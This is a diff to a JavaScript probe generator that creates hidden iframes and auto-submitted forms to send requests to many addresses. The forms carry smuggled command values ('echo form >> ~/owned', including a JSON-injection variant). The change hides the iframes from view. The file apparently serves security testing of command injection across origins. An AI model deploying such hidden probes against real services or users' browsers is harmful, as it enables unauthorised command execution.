@@ -2,7 +2,7 @@
 // addresses at once, and return the addresses that gave something away; what runs reports itself. Those in tops say what a window opens.
 
 const load = (tag, key, more = {}) => `(url, done) => {
-  const e = Object.assign(document.createElement("${tag}"), ${JSON.stringify(more)});
+  const e = Object.assign(document.createElement("${tag}"), ${JSON.stringify({ ...more, ...(tag === "iframe" && { hidden: true }) })});
   e.onload = () => done(${["iframe", "object", "embed"].includes(tag) ? '""' : '"loaded"'});
   e.onerror = () => done("");
   e.setAttribute("${key}", url);
@@ -11,7 +11,7 @@ const load = (tag, key, more = {}) => `(url, done) => {
 
 const form = (method, enctype) => `(url, done) => {
   const to = new URL(url);
-  const frame = Object.assign(document.createElement("iframe"), { name: "f" + Math.random() });
+  const frame = Object.assign(document.createElement("iframe"), { name: "f" + Math.random(), hidden: true });
   const form = Object.assign(document.createElement("form"), { method: "${method}", action: url, enctype: "${enctype}", target: frame.name });
   for (const [name, value] of [...to.searchParams, ["command", "echo form >> ~/owned"], ['{"command": "echo form >> ~/owned", "x": "', '"}']]) {
     form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
